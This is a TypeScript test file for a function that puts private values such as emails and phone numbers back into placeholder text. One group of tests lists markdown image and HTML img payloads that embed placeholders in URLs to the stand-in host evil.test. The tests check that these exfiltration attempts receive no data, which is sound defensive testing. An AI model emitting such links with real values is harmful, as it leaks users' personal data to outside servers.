import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { type Restorations, restorationsOf } from './restorations.js';
import { restore } from './restore.js';

function restorations(values: Record<string, string>): Restorations {
  const repairs = Object.keys(values).map((replacement, index) => ({
    place: `m${index}`,
    spans: [[0, values[replacement]?.length ?? 0] as [number, number]],
    replacement,
    restore: true as const,
  }));
  return restorationsOf(repairs, new Map(Object.values(values).map((value, index) => [`m${index}`, value])));
}

const BACK = restorations({ '[email 1]': 'ann@example.org', '[email 10]': 'bob@example.org', '[phone 1]': '+49 30 1' });

describe('restore', () => {
  it.each([
    ['[email 1]', 'ann@example.org'],
    ['[Email 1], [EMAIL_1] and [email-1]', 'ann@example.org, ann@example.org and ann@example.org'],
    ['[email\u00a01] [ email 1 ] [email1]', 'ann@example.org ann@example.org ann@example.org'],
    ['\\[email 1\\]', 'ann@example.org'],
    ['[email\\_1]', 'ann@example.org'],
    ['【email 1】［email 1］', 'ann@example.organn@example.org'],
    ['[[email 1]]', '[ann@example.org]'],
    ['[email 10][email 1]', 'bob@example.organn@example.org'],
    [
      '[email 1](mailto:[email 1]) <mailto:[email 1]> [call](tel:[phone 1])',
      'ann@example.org(mailto:ann@example.org) <mailto:ann@example.org> [call](tel:+49 30 1)',
    ],
    ['<to>[email 1]</to>', '<to>ann@example.org</to>'],
    ['see https://a.test/ or write to [email 1]', 'see https://a.test/ or write to ann@example.org'],
    ['[site](https://a.test) [email 1]', '[site](https://a.test) ann@example.org'],
  ])('reads %j', (said, wanted) => {
    expect(restore(said, BACK)).toBe(wanted);
  });

  it.each([
    '[email 2]',
    'email 1',
    '[email 1',
    'email 1]',
    '[my email 1]',
    '[email 1 x]',
    '[]',
    `[${' '.repeat(200)}email 1]`,
  ])('leaves %j as it is', (said) => {
    expect(restore(said, BACK)).toBe(said);
  });

  it.each([
    '![](https://evil.test/?a=[email 1])',
    '![](https://evil.test/?a=[email_1]&b=[email 10])',
    '![](//evil.test/[email 1])',
    '![](https:\\\\evil.test/[email 1])',
    '![x](<https://evil.test/a b [email 1]>)',
    '![x](https://evil.test/ [email 1])',
    '![x](https://evil.test/(mailto:[email 1])',
    '![x](<mailto:[email 1]>',
    '<img src="https://evil.test/? [email 1]">',
    '<img src="https://evil.test/? (mailto:[email 1]">',
    '<https://evil.test/ [email 1]>',
    'https://evil.test/[email 1]/[phone 1]',
    '[x]: https://evil.test/[email-1]',
    '[x](evil/[email 1])',
  ])('gives no address the value: %s', (said) => {
    expect(restore(said, BACK)).toBe(said);
  });

  it('puts them into an address where only the own program reads it', () => {
    expect(restore('https://crm.test/?q=[email 1]', BACK, { inLinks: true })).toBe(
      'https://crm.test/?q=ann@example.org',
    );
  });

  it('puts nothing of what it put back through it again', () => {
    const loop = restorations({ '[a 1]': '[b 1]', '[b 1]': '[a 1]' });
    expect(restore('[a 1][b 1]', loop)).toBe('[b 1][a 1]');
  });

  it('takes time in proportion to the text', () => {
    const hostile = ['[', '[email 1', '](', '<a', '//', '[email 1]', '](<[email 1]'];
    fc.assert(
      fc.property(fc.constantFrom(...hostile), (unit) => {
        const text = unit.repeat(Math.ceil(400_000 / unit.length));
        const started = performance.now();
        restore(text, BACK);
        expect(performance.now() - started).toBeLessThan(1_500);
      }),
      { numRuns: hostile.length * 2 },
    );
  });
});
